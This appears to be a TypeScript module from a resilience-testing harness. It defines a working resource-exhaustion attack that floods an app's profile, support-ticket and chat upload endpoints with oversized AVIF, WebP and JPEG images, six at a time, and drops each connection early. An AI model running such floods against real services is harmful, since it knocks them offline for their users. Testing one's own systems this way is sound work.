import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { setTimeout as delay } from 'node:timers/promises';
import { floodOf, type Attack, type Target } from './attack.ts';

type Picture = { name: string; bytes: Buffer };
type Form = { path: string; field: string; fields: Record<string, string>; picture: Picture };

const boundary = 'snow';
const atOnce = 6;
const patienceMs = 2000;

export const pictures: Attack = {
  name: 'pictures',
  does: '6 at once upload an AVIF of 98 megapixels, WebPs of up to 25 MB and JPEGs of 49 megapixels, and leave before the answer',
  async prepare(isSmall) {
    const avif = { name: 'a.avif', bytes: await readFile(new URL('98-megapixels.avif', import.meta.url)) };
    const webp = { name: 'a.webp', bytes: await noise(isSmall ? 500 : 2880) };
    const jpeg = { name: 'a.jpg', bytes: await flat(isSmall ? 2000 : 7000) };
    return (target) => uploadAll(target, { avif, webp, jpeg });
  },
};

async function uploadAll(target: Target, made: Record<'avif' | 'webp' | 'jpeg', Picture>): Promise<void> {
  const room = `/api/chat/rooms/${target.scene.groupId}/upload`;
  const profile = { path: '/api/profile/image', field: 'image', fields: { kind: 'picture' } };
  const ticket = {
    path: '/api/support/tickets',
    field: 'image',
    fields: { title: 'Help', description: 'See the picture', priority: 'high' },
  };
  const forms: Form[] = [
    { ...profile, picture: made.avif },
    { ...ticket, picture: made.jpeg },
    { path: room, field: 'file', fields: { type: 'image' }, picture: made.webp },
    { path: room, field: 'file', fields: { type: 'image' }, picture: made.avif },
  ];
  await floodOf(target, atOnce, (n) => upload(target, forms[n % forms.length]!));
}

/** Sends it whole, waits for a while, and goes. */
async function upload(
  { elsewhere, time, note }: Target,
  { path, field, fields, picture }: Form,
): Promise<void> {
  const part = (head: string) => `--${boundary}\r\nContent-Disposition: form-data; ${head}\r\n\r\n`;
  const texts = Object.entries(fields).map(([name, value]) => `${part(`name="${name}"`)}${value}\r\n`);
  const body = Buffer.concat([
    Buffer.from(`${texts.join('')}${part(`name="${field}"; filename="${picture.name}"`)}`),
    picture.bytes,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const sending = elsewhere.open('POST', path, {
    'content-type': `multipart/form-data; boundary=${boundary}`,
    'content-length': body.length,
  });
  sending.end(body);
  const answer = once(sending, 'response').then(
    ([response]) => String((response as { statusCode: number }).statusCode),
    () => 'cut off',
  );
  const gone = delay(patienceMs, 'left before the answer', { signal: time }).catch(() => 'time over');
  const came = await Promise.race([answer, gone]);
  note(came);
  sending.destroy();
  // A refusal is quick: not to ask again at once is all that keeps this from being a flood of another kind.
  await delay(50);
}

/** Nothing in it can be made smaller: 3 bytes a pixel. */
async function noise(side: number): Promise<Buffer> {
  const { default: sharp } = await import('sharp');
  return sharp(randomBytes(side * side * 3), { raw: { width: side, height: side, channels: 3 } })
    .webp({ lossless: true, effort: 0 })
    .toBuffer();
}

async function flat(side: number): Promise<Buffer> {
  const { default: sharp } = await import('sharp');
  return sharp({ create: { width: side, height: side, channels: 3, background: '#3b82f6' } })
    .jpeg({ quality: 40 })
    .toBuffer();
}
